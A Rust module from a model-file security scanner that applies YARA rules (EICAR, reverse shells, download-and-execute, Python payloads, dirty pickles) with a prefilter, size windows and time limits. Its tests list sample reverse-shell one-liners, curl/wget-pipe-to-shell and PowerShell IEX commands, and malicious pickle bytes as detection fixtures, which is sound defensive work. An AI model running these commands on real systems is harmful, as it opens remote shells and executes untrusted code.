//! Signature scanning: YARA rules (compiled by [boreal], a YARA engine in pure Rust) run over
//! every source the driver reads — the file, each archive member, each decompressed blob and
//! each payload decoded from a pickle.
//!
//! - A bundled, versioned rule set ([`BUNDLED_VERSION`], `rules/*.yar`, embedded at build time):
//!   the EICAR test string, reverse shells, download-and-execute command lines, Python payload
//!   shapes and dirty pickles. Users add their own rule directories
//!   ([`Signatures::with_rule_dirs`]).
//! - Compiled once per rule set; a [`Signatures`] is an `Arc`, cheap to clone into every
//!   [`Scanner`](crate::Scanner) and shared across threads. The bundled set is compiled once
//!   per process, when the first buffer gets past its literal prefilter (most never do).
//! - Bounded: a source up to `Limits::max_signature_bytes` is scanned whole (one buffer, full
//!   YARA semantics: `filesize`, offsets); a larger one is scanned in two windows, its first
//!   and its last `max_signature_bytes / 2` bytes, each as its own buffer. The middle of a
//!   large source (tensor data of a multi-GB checkpoint) is not read: the code-bearing parts
//!   are found by the format readers, which hand their members and payloads to this module
//!   as separate, small sources. Conditions are evaluated per window.
//!
//! Rule metadata modelguard reads: `severity` (`critical|high|medium|low|info`, default
//! `high`), `message` (or `description`) for the finding's text.

use std::path::{Path, PathBuf};
use std::sync::{Arc, LazyLock};
use std::time::Duration;

use boreal::{MetadataValue, compiler::Compiler};

use crate::report::{Finding, Location, Severity};
use crate::source::ReadAt;

/// Version of the bundled rule set; also each bundled rule's `version` meta.
pub const BUNDLED_VERSION: &str = "2026.11.1";

/// The bundled rule files, as `(name, text)`.
pub const BUNDLED: &[(&str, &str)] = &[
    ("eicar.yar", include_str!("rules/eicar.yar")),
    ("shells.yar", include_str!("rules/shells.yar")),
    ("payloads.yar", include_str!("rules/payloads.yar")),
];

/// Literals of which every bundled rule needs at least one. A buffer containing none of them
/// cannot match a bundled rule and skips the YARA engine, whose per-buffer setup and per-byte
/// atom hashing were a tenth of a many-small-files scan. Keep in step with `rules/*.yar`:
/// each rule's strings, and the strings its condition requires, contain one of these
/// (`prefilter_never_hides_a_match` checks every rule's samples and the fixture corpus).
/// Compared exactly; [`BUNDLED_ATOMS_NOCASE`] holds those of `nocase` strings.
const BUNDLED_ATOMS: &[&str] = &[
    // MG_EICAR_Test_Signature
    "EICAR-STANDARD-ANTIVIRUS-TEST-FILE",
    // MG_Python_Import_Exec
    "__import__",
    // MG_Python_Decode_Exec
    "exec",
    "eval",
    // MG_Pickle_Dirty_Exec: `builtins` / `__builtin__` are required by its condition
    "builtin",
    // MG_Reverse_Shell_Dev_Tcp
    "/dev/",
    // MG_Reverse_Shell_Netcat (both strings name /bin/…sh)
    "/bin/",
    // MG_Reverse_Shell_Python (every alternative of its condition names socket)
    "socket",
    // MG_Download_And_Execute
    "curl",
    "wget",
];

/// Starts of the `nocase` literals (MG_Download_And_Execute), searched in every ASCII case:
/// three letters have eight spellings, a whole word hundreds, and a few dozen exact literals
/// keep the search on its vectorised path.
const BUNDLED_ATOMS_NOCASE: &[&str] = &["pow", "iex", "cer"];

/// Every ASCII-case spelling of `word`.
fn case_variants(word: &str) -> Vec<Vec<u8>> {
    let mut out = vec![Vec::new()];
    for b in word.bytes() {
        let (lo, up) = (b.to_ascii_lowercase(), b.to_ascii_uppercase());
        out = out
            .into_iter()
            .flat_map(|v| {
                let mut a = v.clone();
                a.push(lo);
                let mut spellings = vec![a];
                if up != lo {
                    let mut c = v;
                    c.push(up);
                    spellings.push(c);
                }
                spellings
            })
            .collect();
    }
    out
}

/// Namespace of the bundled rules (user files get one namespace each: their path).
const BUNDLED_NAMESPACE: &str = "modelguard";

/// Matches kept per string: evidence needs one or a few offsets, not thousands.
const MAX_MATCHES_PER_STRING: u32 = 16;

/// Why a rule set could not be built.
#[derive(Debug, thiserror::Error)]
pub enum SignatureError {
    /// A rule file did not compile; `message` starts with `file:line:column`.
    #[error("YARA rule compile error: {message}")]
    Compile {
        /// The file (or bundled name).
        path: PathBuf,
        /// boreal's description, `path:line:column: error`.
        message: String,
    },
    /// A rule directory or file could not be read.
    #[error("{path}: {source}")]
    Io {
        /// The path.
        path: PathBuf,
        /// The error.
        source: std::io::Error,
    },
    /// A rule directory holds no `*.yar` / `*.yara` file (almost always a wrong path).
    #[error("{0}: no *.yar or *.yara rule files")]
    Empty(PathBuf),
}

/// A compiled rule set. Cheap to clone; `Default` is the bundled set.
#[derive(Clone)]
pub struct Signatures {
    /// `Err` only if the bundled set could not be set up (a build defect, caught by tests).
    inner: Result<Arc<Compiled>, Arc<str>>,
}

struct Compiled {
    /// The YARA engine. A set with user rules is compiled when made (so a bad rule file is
    /// an error up front); the bundled set alone is compiled on first use, since its
    /// prefilter turns most buffers away and compiling costs a few milliseconds of every
    /// run. A compile error of the bundled rules (a build defect, caught by tests) makes every
    /// scan report the signature layer as not run (status incomplete).
    scanner: std::sync::OnceLock<Result<boreal::Scanner, String>>,
    /// For the bundled set alone: [`BUNDLED_ATOMS`]. User rules are never prefiltered.
    prefilter: Option<regex::bytes::Regex>,
    /// `sha256:` of the bundled version and every rule file's name and text.
    digest: String,
    /// User rule files compiled in, for [`Signatures::files`].
    files: Vec<PathBuf>,
}

impl std::fmt::Debug for Signatures {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Signatures")
            .field("digest", &self.digest())
            .field("files", &self.files())
            .finish()
    }
}

static BUNDLED_SET: LazyLock<Signatures> = LazyLock::new(|| Signatures {
    inner: build(&[])
        .map(Arc::new)
        .map_err(|e| Arc::from(e.to_string())),
});

impl Default for Signatures {
    fn default() -> Self {
        BUNDLED_SET.clone()
    }
}

impl Signatures {
    /// The bundled rules (compiled once per process, when first needed).
    pub fn bundled() -> Self {
        Self::default()
    }

    /// The bundled rules plus every `*.yar` / `*.yara` file directly in each of `dirs` (or a
    /// rule file given directly). Each user file is compiled in its own namespace (its path),
    /// so rule names may repeat across files.
    pub fn with_rule_dirs(dirs: &[PathBuf]) -> Result<Self, SignatureError> {
        let mut files = Vec::new();
        for d in dirs {
            if d.is_file() {
                files.push(d.clone());
                continue;
            }
            let rd = std::fs::read_dir(d).map_err(|source| SignatureError::Io {
                path: d.clone(),
                source,
            })?;
            let mut found: Vec<PathBuf> = rd
                .flatten()
                .map(|e| e.path())
                .filter(|p| p.is_file() && is_rule_file(p))
                .collect();
            if found.is_empty() {
                return Err(SignatureError::Empty(d.clone()));
            }
            found.sort();
            files.extend(found);
        }
        Ok(Signatures {
            inner: Ok(Arc::new(build(&files)?)),
        })
    }

    /// `sha256:…` over the bundled version and all rule texts (part of the report's ruleset
    /// digest, so results from different rule sets are told apart).
    pub fn digest(&self) -> String {
        match &self.inner {
            Ok(c) => c.digest.clone(),
            Err(_) => "unavailable".into(),
        }
    }

    /// User rule files compiled into this set.
    pub fn files(&self) -> &[PathBuf] {
        match &self.inner {
            Ok(c) => &c.files,
            Err(_) => &[],
        }
    }

    /// Names of every rule in the set (`namespace:name`).
    pub fn rule_names(&self) -> Vec<String> {
        match &self.inner {
            Ok(c) => match c.engine() {
                Ok(scanner) => scanner
                    .rules()
                    .map(|r| format!("{}:{}", r.namespace, r.name))
                    .collect(),
                Err(_) => vec![],
            },
            Err(_) => vec![],
        }
    }

    /// Scan `src` as described in the module documentation, reading at most `max_bytes`
    /// (0 turns signature scanning off) and giving each buffer's evaluation at most
    /// `max_time` (`None`: no limit). Matches go to `out` with offsets within `src`; those
    /// found before an error (a read error, a scan stopped by the time limit) are kept.
    pub fn scan(
        &self,
        src: &dyn ReadAt,
        max_bytes: u64,
        max_time: Option<Duration>,
        out: &mut Vec<Match>,
    ) -> Result<(), String> {
        let c = self.inner.as_ref().map_err(|e| e.to_string())?;
        let size = src.size();
        if max_bytes == 0 || size == 0 {
            return Ok(());
        }
        let windows = if size <= max_bytes {
            vec![(0, size)]
        } else {
            let half = max_bytes / 2;
            vec![(0, half), (size - half, half)]
        };
        for (start, len) in windows {
            let data = crate::source::range(src, start, len).map_err(|e| e.to_string())?;
            if c.prefilter.as_ref().is_some_and(|p| !p.is_match(&data)) {
                continue;
            }
            scan_buffer(c, &data, start, max_time, out)?;
        }
        Ok(())
    }
}

/// One rule that matched.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Match {
    /// Rule namespace (`modelguard` for bundled rules, the file path for user rules).
    pub namespace: String,
    /// Rule name.
    pub rule: String,
    /// First matched string's identifier (`$eicar`), if the condition used strings.
    pub string: Option<String>,
    /// Offset of that match within the scanned source.
    pub offset: Option<u64>,
    /// From the rule's `severity` meta; `high` when absent or unknown.
    pub severity: Severity,
    /// From the rule's `message` / `description` meta.
    pub message: Option<String>,
}

impl Match {
    /// The finding for this match (`MG-YARA`), located in `member`.
    pub fn finding(&self, member: Option<&str>) -> Finding {
        let who = if self.namespace == BUNDLED_NAMESPACE {
            String::new()
        } else {
            format!(" ({})", self.namespace)
        };
        let message = match &self.message {
            Some(m) => format!("{m} (YARA rule {}{who})", self.rule),
            None => format!("YARA rule {}{who} matched", self.rule),
        };
        Finding::new(&crate::rules::YARA, self.severity, message)
            .evidence(match &self.string {
                Some(s) => format!("{} {s}", self.rule),
                None => self.rule.clone(),
            })
            .at(Location {
                member: member.map(str::to_string),
                offset: self.offset,
                opcode: None,
            })
    }
}

impl Compiled {
    /// The engine, compiled now if it was deferred.
    fn engine(&self) -> Result<&boreal::Scanner, String> {
        self.scanner
            .get_or_init(|| compile(&self.files).map_err(|e| e.to_string()))
            .as_ref()
            .map_err(Clone::clone)
    }
}

fn scan_buffer(
    c: &Compiled,
    data: &[u8],
    base: u64,
    max_time: Option<Duration>,
    out: &mut Vec<Match>,
) -> Result<(), String> {
    let shared = c.engine()?;
    // The engine is shared by every thread and holds its scan parameters, so a timed scan
    // runs on a copy (an `Arc` and two small vectors; made only for buffers that got past
    // the prefilter).
    let timed;
    let scanner = match max_time {
        Some(limit) => {
            let mut s = shared.clone();
            s.set_scan_params(s.scan_params().clone().timeout_duration(Some(limit)));
            timed = s;
            &timed
        }
        None => shared,
    };
    let (res, error) = match scanner.scan_mem(data) {
        Ok(r) => (r, None),
        Err((boreal::scanner::ScanError::Timeout, partial)) => {
            let ms = max_time.map_or(0, |d| d.as_millis());
            let at = if base == 0 {
                String::new()
            } else {
                format!(" (window at byte {base})")
            };
            let e = format!(
                "YARA scan stopped by max_signature_millis ({ms} ms){at}; matches found before it are reported"
            );
            (partial, Some(e))
        }
        Err((e, _partial)) => return Err(format!("YARA scan: {e:?}")),
    };
    for r in res.rules {
        let mut severity = Severity::High;
        let mut message = None;
        for m in r.metadatas {
            let key = scanner.get_string_symbol(m.name);
            let MetadataValue::Bytes(b) = m.value else {
                continue;
            };
            let value = String::from_utf8_lossy(scanner.get_bytes_symbol(b)).into_owned();
            match key {
                "severity" => severity = Severity::parse(&value).unwrap_or(Severity::High),
                "message" => message = Some(value),
                "description" if message.is_none() => message = Some(value),
                _ => {}
            }
        }
        let first = r
            .matches
            .iter()
            .filter_map(|s| s.matches.first().map(|m| (s.name, m.base + m.offset)))
            .min_by_key(|(_, off)| *off);
        out.push(Match {
            namespace: r.namespace.to_string(),
            rule: r.name.to_string(),
            string: first.map(|(n, _)| format!("${n}")),
            offset: first.map(|(_, off)| base + off as u64),
            severity,
            message,
        });
    }
    error.map_or(Ok(()), Err)
}

fn build(files: &[PathBuf]) -> Result<Compiled, SignatureError> {
    use sha2::{Digest, Sha256};
    let mut h = Sha256::new();
    h.update(BUNDLED_VERSION.as_bytes());
    for (name, text) in BUNDLED {
        h.update(name.as_bytes());
        h.update(text.as_bytes());
    }
    for f in files {
        let text = std::fs::read(f).map_err(|source| SignatureError::Io {
            path: f.clone(),
            source,
        })?;
        h.update(f.to_string_lossy().as_bytes());
        h.update(&text);
    }
    let scanner = std::sync::OnceLock::new();
    if !files.is_empty() {
        let _ = scanner.set(Ok(compile(files)?));
    }
    // An alternation of a few dozen literals cannot fail to build; if it ever did, every buffer
    // simply goes to the YARA engine.
    let prefilter = files
        .is_empty()
        .then(|| {
            let mut atoms: Vec<String> = BUNDLED_ATOMS.iter().map(|a| regex::escape(a)).collect();
            atoms.extend(
                BUNDLED_ATOMS_NOCASE
                    .iter()
                    .flat_map(|a| case_variants(a))
                    .map(|v| regex::escape(&String::from_utf8_lossy(&v))),
            );
            regex::bytes::Regex::new(&atoms.join("|")).ok()
        })
        .flatten();
    Ok(Compiled {
        scanner,
        prefilter,
        digest: format!("sha256:{}", crate::report::hex(&h.finalize())),
        files: files.to_vec(),
    })
}

/// Compile the bundled rules plus `files` (each in its own namespace: its path).
fn compile(files: &[PathBuf]) -> Result<boreal::Scanner, SignatureError> {
    let mut compiler = Compiler::new();
    for (name, text) in BUNDLED {
        compiler
            .add_rules_str_in_namespace(text, BUNDLED_NAMESPACE)
            .map_err(|e| SignatureError::Compile {
                path: PathBuf::from(name),
                message: e.to_string().replacen("mem:", &format!("{name}:"), 1),
            })?;
    }
    for f in files {
        compiler
            .add_rules_file_in_namespace(f, f.to_string_lossy())
            .map_err(|e| SignatureError::Compile {
                path: f.clone(),
                message: e.to_string(),
            })?;
    }
    let mut scanner = compiler.finalize();
    scanner.set_scan_params(
        boreal::scanner::ScanParams::default()
            .string_max_nb_matches(MAX_MATCHES_PER_STRING)
            .match_max_length(256),
    );
    Ok(scanner)
}

/// Whether `path` is a rule file this module would load from a directory.
pub fn is_rule_file(path: &Path) -> bool {
    path.extension()
        .and_then(|e| e.to_str())
        .is_some_and(|e| e.eq_ignore_ascii_case("yar") || e.eq_ignore_ascii_case("yara"))
}

/// Drop signature findings of a container (`own`, found in its raw bytes) that a member scan
/// found again (`later`): the member's finding says where the match really is. Count-aware:
/// a container with the string twice, once outside any member, keeps one finding.
pub(crate) fn drop_container_duplicates(findings: &mut Vec<Finding>, own: std::ops::Range<usize>) {
    let yara = crate::rules::YARA.id;
    let Some(later) = findings.get(own.end..) else {
        return;
    };
    let mut inner: Vec<&Option<String>> = later
        .iter()
        .filter(|f| f.rule == yara)
        .map(|f| &f.evidence)
        .collect();
    let mut drop = vec![false; own.len()];
    for (i, f) in findings
        .get(own.clone())
        .unwrap_or_default()
        .iter()
        .enumerate()
    {
        if let Some(pos) = inner.iter().position(|e| **e == f.evidence) {
            inner.swap_remove(pos);
            if let Some(d) = drop.get_mut(i) {
                *d = true;
            }
        }
    }
    let mut idx = 0usize;
    findings.retain(|_| {
        let keep = !(own.contains(&idx) && drop.get(idx - own.start).copied().unwrap_or(false));
        idx += 1;
        keep
    });
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]
    use super::*;
    use crate::source::Bytes;

    /// Every match in `data`, with no time limit.
    fn all(s: &Signatures, data: &[u8], max_bytes: u64) -> Vec<Match> {
        let mut out = Vec::new();
        s.scan(&Bytes(data), max_bytes, None, &mut out).unwrap();
        out
    }

    fn eicar() -> Vec<u8> {
        // Assembled at run time so this source file is not itself the test file.
        let mut v = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$".to_vec();
        v.extend_from_slice(b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
        v
    }

    #[test]
    fn bundled_rules_compile() {
        let s = Signatures::bundled();
        assert!(s.inner.is_ok(), "{:?}", s.inner.as_ref().err());
        // The bundled engine is compiled lazily: force it here.
        let engine = s.inner.as_ref().unwrap().engine();
        assert!(engine.is_ok(), "{:?}", engine.err());
        assert!(s.rule_names().len() >= 8);
        assert!(s.rule_names().len() >= 8);
        assert!(s.digest().starts_with("sha256:"));
    }

    #[test]
    fn eicar_anywhere() {
        let mut data = b"prefix bytes ".to_vec();
        data.extend(eicar());
        let m = all(&Signatures::bundled(), &data, 1 << 20);
        assert_eq!(m.len(), 1);
        assert_eq!(m[0].rule, "MG_EICAR_Test_Signature");
        assert_eq!(m[0].offset, Some(13));
        assert_eq!(m[0].severity, Severity::High);
        assert_eq!(m[0].message.as_deref(), Some("EICAR test signature"));
    }

    /// `max_signature_bytes`: a large source is scanned in its head and tail only.
    #[test]
    fn large_source_head_and_tail() {
        let e = eicar();
        let mut data = vec![0u8; 4096];
        data[100..100 + e.len()].copy_from_slice(&e);
        data[2000..2000 + e.len()].copy_from_slice(&e); // in the middle: not read
        data[4000..4000 + e.len()].copy_from_slice(&e);
        let s = Signatures::bundled();
        let m = all(&s, &data, 1024);
        let offs: Vec<_> = m.iter().map(|m| m.offset).collect();
        assert_eq!(offs, vec![Some(100), Some(4000)]);
        assert_eq!(all(&s, &data, 0), vec![]);
        assert_eq!(all(&s, &data, 1 << 20).len(), 1, "one rule, first match");
    }

    /// One sample per bundled rule and alternative, with the rule it must fire.
    const SAMPLES: &[(&str, &str)] = &[
        (
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "MG_Reverse_Shell_Dev_Tcp",
        ),
        ("nc -e /bin/sh 10.0.0.1 4444", "MG_Reverse_Shell_Netcat"),
        ("ncat 10.0.0.1 4444 -e /bin/bash", "MG_Reverse_Shell_Netcat"),
        (
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
            "MG_Reverse_Shell_Netcat",
        ),
        (
            "python -c 'import socket,subprocess,os;s=socket.socket()'",
            "MG_Reverse_Shell_Python",
        ),
        (
            "s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
            "MG_Reverse_Shell_Python",
        ),
        (
            "curl -fsSL http://x.invalid/i.sh | sh",
            "MG_Download_And_Execute",
        ),
        (
            "wget -qO- http://x.invalid/i.sh | bash",
            "MG_Download_And_Execute",
        ),
        (
            "wget http://x.invalid/i.sh -O - | sudo bash",
            "MG_Download_And_Execute",
        ),
        (
            "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A",
            "MG_Download_And_Execute",
        ),
        (
            "IEX (New-Object Net.WebClient).DownloadString('http://x')",
            "MG_Download_And_Execute",
        ),
        ("__import__('os').system('id')", "MG_Python_Import_Exec"),
        ("exec(base64.b64decode('aWQ='))", "MG_Python_Decode_Exec"),
        (
            "exec(__import__('zlib').decompress(b'x'))",
            "MG_Python_Decode_Exec",
        ),
    ];

    /// Benign text near each rule's triggers.
    const NEAR_MISSES: &[&str] = &[
        "#!/bin/sh\necho hello\n",
        "curl -O https://example.com/model.bin",
        "see /dev/tcp in the bash manual",
        "import os\nos.path.join('a', 'b')\n",
        "base64.b64decode(weights)",
        "wget https://example.com/x.tar.gz && tar xf x.tar.gz",
        "nc -l 8080",
        "socket.socket() is created by the server",
        "model.eval()",
    ];

    /// The literal prefilter is only a shortcut: whatever the rules match, it lets through.
    /// Checked on every rule's samples (also upper-cased and embedded in other bytes), on
    /// the near misses and on every file of the fixture corpus.
    #[test]
    fn prefilter_never_hides_a_match() {
        let s = Signatures::bundled();
        let c = s.inner.as_ref().unwrap();
        let p = c.prefilter.as_ref().expect("bundled set has a prefilter");
        let mut inputs: Vec<Vec<u8>> = vec![eicar()];
        for &(t, _) in SAMPLES {
            inputs.push(t.as_bytes().to_vec());
            inputs.push(t.to_ascii_uppercase().into_bytes());
            inputs.push([b"\x80\x04junk ".as_slice(), t.as_bytes(), b" tail"].concat());
        }
        inputs.extend(NEAR_MISSES.iter().map(|t| t.as_bytes().to_vec()));
        inputs.push(b"cbuiltins\nexec\n(cbase64\nb64decode\n(S'aWQ='\ntRtR.".to_vec());
        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures");
        let mut dirs = vec![root];
        while let Some(d) = dirs.pop() {
            for e in std::fs::read_dir(&d).unwrap().flatten() {
                let path = e.path();
                if path.is_dir() {
                    dirs.push(path);
                } else if let Ok(data) = std::fs::read(&path) {
                    inputs.push(data);
                }
            }
        }
        assert!(inputs.len() > 200, "fixture corpus not found");
        let mut matched = 0;
        for data in &inputs {
            let mut full = Vec::new();
            scan_buffer(c, data, 0, None, &mut full).unwrap();
            if !full.is_empty() {
                matched += 1;
                assert!(
                    p.is_match(data.as_slice()),
                    "prefilter would hide {:?} in {:?}",
                    full.iter().map(|m| &m.rule).collect::<Vec<_>>(),
                    String::from_utf8_lossy(data.get(..200).unwrap_or(data))
                );
            }
        }
        assert!(
            matched >= SAMPLES.len(),
            "only {matched} inputs matched a rule"
        );
        // ... and it does skip ordinary data.
        assert!(!p.is_match(b"\x80\x02}q\x00X\x06\x00\x00\x00weightq\x01K\x01s."));
        assert_eq!(case_variants("iEx").len(), 8);
        assert!(case_variants("a-1").contains(&b"A-1".to_vec()));
    }

    #[test]
    fn shells_and_payloads() {
        let s = Signatures::bundled();
        let hits = |t: &str| -> Vec<String> {
            all(&s, t.as_bytes(), 1 << 20)
                .into_iter()
                .map(|m| m.rule)
                .collect()
        };
        for &(text, rule) in SAMPLES {
            assert_eq!(hits(text), vec![rule.to_string()], "{text}");
        }
        for &benign in NEAR_MISSES {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
    }

    #[test]
    fn dirty_pickle() {
        let s = Signatures::bundled();
        // protocol 0: builtins.exec(base64.b64decode(...))
        let p0 = b"cbuiltins\nexec\n(cbase64\nb64decode\n(S'aWQ='\ntRtR.";
        let m = all(&s, p0, 1 << 20);
        assert!(m.iter().any(|m| m.rule == "MG_Pickle_Dirty_Exec"), "{m:?}");
        // protocol 4 STACK_GLOBAL
        let mut p4 = vec![0x80, 4, 0x95, 0, 0, 0, 0, 0, 0, 0, 0];
        p4.extend_from_slice(
            b"\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x8c\x06base64\x8c\x09b64decode\x93.",
        );
        let m = all(&s, &p4, 1 << 20);
        assert!(m.iter().any(|m| m.rule == "MG_Pickle_Dirty_Exec"), "{m:?}");
        // exec alone is the VM's business, not this rule's
        let plain = b"\x80\x04\x8c\x08builtins\x8c\x04eval\x93.";
        assert!(all(&s, plain, 1 << 20).is_empty());
    }

    #[test]
    fn user_rules_and_errors() {
        let dir = std::env::temp_dir().join(format!("mg-sig-unit-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(
            dir.join("a.yar"),
            "rule Custom { meta: severity = \"medium\" strings: $x = \"custom-marker\" condition: $x }",
        )
        .unwrap();
        let s = Signatures::with_rule_dirs(std::slice::from_ref(&dir)).unwrap();
        let m = all(&s, b"..custom-marker..", 1 << 20);
        assert_eq!(m[0].rule, "Custom");
        assert_eq!(m[0].severity, Severity::Medium);
        assert_ne!(s.digest(), Signatures::bundled().digest());
        std::fs::write(dir.join("b.yara"), "rule Broken {\n condition: $nope\n}").unwrap();
        let e = Signatures::with_rule_dirs(std::slice::from_ref(&dir)).unwrap_err();
        let text = e.to_string();
        assert!(text.contains("b.yara:2:"), "{text}");
        let empty = dir.join("empty");
        std::fs::create_dir_all(&empty).unwrap();
        assert!(matches!(
            Signatures::with_rule_dirs(&[empty]),
            Err(SignatureError::Empty(_))
        ));
        std::fs::remove_dir_all(&dir).unwrap();
    }

    /// `max_signature_millis`: a user rule that is quadratic in the file size is stopped, the
    /// error says which limit stopped it, and a match found before it is kept.
    #[test]
    fn time_limit_stops_a_slow_rule() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("slow.yar"),
            "rule Early { strings: $m = \"early-marker\" condition: $m }\n\
             rule Slow { condition:\n\
               for all i in (1..filesize) : ( for all j in (1..filesize) : ( uint8(i) >= uint8(j) or true ) ) }",
        )
        .unwrap();
        let s = Signatures::with_rule_dirs(&[dir.path().to_path_buf()]).unwrap();
        // 16 million evaluations of the inner condition (about 4 s in a debug build).
        let mut data = b"early-marker ".to_vec();
        data.extend(std::iter::repeat_n(b'A', 4_000));
        let mut out = Vec::new();
        let limit = Some(Duration::from_millis(1));
        let err = s.scan(&Bytes(&data), 1 << 20, limit, &mut out).unwrap_err();
        assert!(err.contains("max_signature_millis (1 ms)"), "{err}");
        let rules: Vec<_> = out.iter().map(|m| m.rule.as_str()).collect();
        assert_eq!(rules, ["Early"]);
        // The same rules on a short buffer finish within a limit.
        let mut out = Vec::new();
        let few = b"early-marker AAA";
        s.scan(
            &Bytes(few),
            1 << 20,
            Some(Duration::from_secs(60)),
            &mut out,
        )
        .unwrap();
        let rules: Vec<_> = out.iter().map(|m| m.rule.as_str()).collect();
        assert_eq!(rules, ["Early", "Slow"]);
    }

    #[test]
    fn container_duplicates() {
        let f = |member: Option<&str>, ev: &str| {
            Match {
                namespace: BUNDLED_NAMESPACE.into(),
                rule: ev.into(),
                string: None,
                offset: Some(1),
                severity: Severity::High,
                message: None,
            }
            .finding(member)
        };
        let mut v = vec![f(None, "A"), f(None, "A"), f(None, "B"), f(Some("m"), "A")];
        drop_container_duplicates(&mut v, 0..3);
        let kept: Vec<_> = v
            .iter()
            .map(|x| (x.location.member.clone(), x.evidence.clone().unwrap()))
            .collect();
        assert_eq!(
            kept,
            vec![
                (None, "A".into()),
                (None, "B".into()),
                (Some("m".into()), "A".into())
            ]
        );
    }
}
